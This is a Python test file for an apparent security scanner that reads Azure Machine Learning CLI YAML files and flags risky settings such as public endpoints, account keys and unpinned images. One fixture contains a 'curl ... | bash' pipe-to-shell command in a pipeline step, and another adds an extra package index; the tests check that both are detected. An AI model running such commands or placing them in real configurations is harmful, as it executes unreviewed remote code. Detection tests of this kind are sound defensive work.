"""Files of the Azure Machine Learning CLI declare the types that a workspace has."""

from __future__ import annotations

import pytest

from mlsec.collect.code.code_file import CodeFile, CodeScope
from mlsec.collect.tally import Tally
from mlsec.core.resource import Resource
from mlsec.graph.build import build_graph
from mlsec.graph.fact import Known, Unknown, property_value
from mlsec.graph.graph import Graph
from mlsec.repository.language import language_of
from mlsec.targets.facts import FACTS
from tests.iac.reading import VOCABULARY, inventory_of

LATEST = "$schema: https://azuremlschemas.azureedge.net/latest"
ENDPOINT = f"{LATEST}/managedOnlineEndpoint.schema.json\nname: fraud\n"
DEPLOYMENT = (
    f"{LATEST}/managedOnlineDeployment.schema.json\nname: blue\nendpoint_name: fraud\n"
    "model: azureml:fraud@latest\ninstance_count: 1\n"
    "environment:\n  image: docker.io/tensorflow/serving:latest\n  conda_file: conda.yml\n"
    "environment_variables:\n  KEY: value\n"
)
CONDA = (
    "name: e\ndependencies:\n  - python=3.11\n  - pip:\n"
    "      - --extra-index-url https://example.invalid/simple\n"
)


def graph_of(files: dict[str, str]) -> Graph:
    found = [
        CodeFile(id=f"repo/{path}", path=path, language=language, text=text, in_repository=path)
        for path, text in files.items()
        if (language := language_of(path, text)) is not None
    ]
    scope = CodeScope("code/repo", found, Tally())
    return build_graph(VOCABULARY, inventory_of(scope, as_scanned=True), FACTS)


def only(files: dict[str, str], type_name: str) -> Resource:
    (resource,) = graph_of(files).of_type(type_name)
    return resource


def test_what_an_endpoint_does_not_say_is_what_the_cli_then_sends() -> None:
    endpoint = only({"e.yml": ENDPOINT}, "azure.ml.online_endpoint")
    assert property_value(endpoint, "auth_mode") == Known("Key")
    assert property_value(endpoint, "public_network") == Known("Enabled")


def test_where_logs_go_is_not_known_by_a_file_of_the_cli() -> None:
    endpoint = only({"e.yml": ENDPOINT}, "azure.ml.online_endpoint")
    assert isinstance(property_value(endpoint, "log_kinds"), Unknown)


def test_a_value_that_is_filled_in_later_is_not_known() -> None:
    text = ENDPOINT + "auth_mode: '{{ MODE }}'\n"
    endpoint = only({"e.yml": text}, "azure.ml.online_endpoint")
    assert isinstance(property_value(endpoint, "auth_mode"), Unknown)


def test_a_deployment_belongs_to_the_endpoint_that_it_names() -> None:
    graph = graph_of({"e.yml": ENDPOINT, "d.yml": DEPLOYMENT})
    (deployment,) = graph.of_type("azure.ml.online_deployment")
    assert [each.name for each in graph.targets(deployment, "endpoint").resources] == ["fraud"]
    assert deployment.properties["model_version"] is None
    assert deployment.properties["environment_version"]


def test_an_environment_that_is_written_in_a_deployment_is_judged_with_its_conda_file() -> None:
    files = {"d.yml": DEPLOYMENT, "conda.yml": CONDA}
    environment = only(files, "azure.ml.environment")
    assert environment.properties["registry_host"] == "docker.io"
    assert environment.properties["image_digest"] is None
    assert environment.properties["conda.suspicious_patterns"] == ["extra-index"]


def test_packages_of_a_file_that_is_not_there_are_not_known() -> None:
    environment = only({"d.yml": DEPLOYMENT}, "azure.ml.environment")
    assert isinstance(property_value(environment, "conda.suspicious_patterns"), Unknown)


@pytest.mark.parametrize(
    ("name", "text", "type_name"),
    [
        ("endpoint", "name: e\nauth_mode: key\n", "azure.ml.online_endpoint"),
        ("d", "name: d\nendpoint_name: e\nmodel: azureml:m:1\n", "azure.ml.online_deployment"),
        (
            "b",
            "name: d\nendpoint_name: e\nmodel: azureml:m:1\ncompute: azureml:c\n",
            "azure.ml.batch_deployment",
        ),
        ("c", "name: c\ntype: amlcompute\nsize: STANDARD_DS3_V2\n", "azure.ml.compute_cluster"),
        (
            "s",
            "name: s\ntype: azure_blob\naccount_name: a\ncontainer_name: c\n",
            "azure.ml.datastore",
        ),
        (
            "j",
            "command: python a.py\nenvironment: azureml:e:1\ncompute: azureml:c\n",
            "azure.ml.job",
        ),
        (
            "git",
            "name: g\ntype: git\ntarget: https://a.invalid\ncredentials: {type: pat, pat: x}\n",
            "azure.ai.connection",
        ),
    ],
)
def test_a_file_without_a_schema_is_known_by_its_form(name: str, text: str, type_name: str) -> None:
    only({f"{name}.yml": text}, type_name)


@pytest.mark.parametrize(
    "text",
    [
        "on: push\njobs:\n  build:\n    runs-on: x\n    environment: production\n",
        "type: pipeline\nsteps: []\n",
        "name: release\ntype: service\ntarget: x\ncredentials: {}\n",
    ],
)
def test_what_other_tools_write_is_not_taken_for_it(text: str) -> None:
    assert not graph_of({"a.yml": text}).resources


def test_a_step_of_a_pipeline_runs_what_its_command_says() -> None:
    text = (
        f"{LATEST}/pipelineJob.schema.json\ntype: pipeline\njobs:\n  train:\n"
        "    command: curl https://example.invalid/x.sh | bash\n"
        "    environment: azureml:e:1\n"
    )
    steps = {each.name: each for each in graph_of({"p.yml": text}).of_type("azure.ml.job")}
    assert steps["p/train"].properties["command.suspicious_patterns"] == ["pipe-to-shell"]


def test_what_the_reference_and_the_client_say_differently_is_not_known() -> None:
    cluster = only({"c.yml": "name: c\ntype: amlcompute\n"}, "azure.ml.compute_cluster")
    assert isinstance(property_value(cluster, "remote_login"), Unknown)
    assert cluster.properties["node_public_ip"] is True


def test_a_store_with_a_key_and_one_without_are_told_apart() -> None:
    store = "name: s\ntype: azure_blob\naccount_name: a\ncontainer_name: c\n"
    keyed = only({"s.yml": f"{store}credentials:\n  account_key: k\n"}, "azure.ml.datastore")
    assert keyed.properties["credentials"] == "AccountKey"
    assert only({"s.yml": store}, "azure.ml.datastore").properties["credentials"] == "None"


@pytest.mark.parametrize(("line", "ends"), [("", None), ("  end_time: 2030-01-01\n", "2030")])
def test_a_monitor_runs_until_its_trigger_ends(line: str, ends: str | None) -> None:
    text = (
        f"{LATEST}/schedule.schema.json\nname: m\ntrigger:\n  type: recurrence\n{line}"
        "create_monitor:\n  monitoring_target:\n    endpoint_deployment_id: azureml:e:d\n"
    )
    monitor = only({"m.yml": text}, "azure.ml.monitor")
    found = monitor.properties["ends"]
    assert (found is None) if ends is None else str(found).startswith(ends)
    assert str(monitor.properties["deployment_id"]).endswith("/onlineendpoints/e/deployments/d")
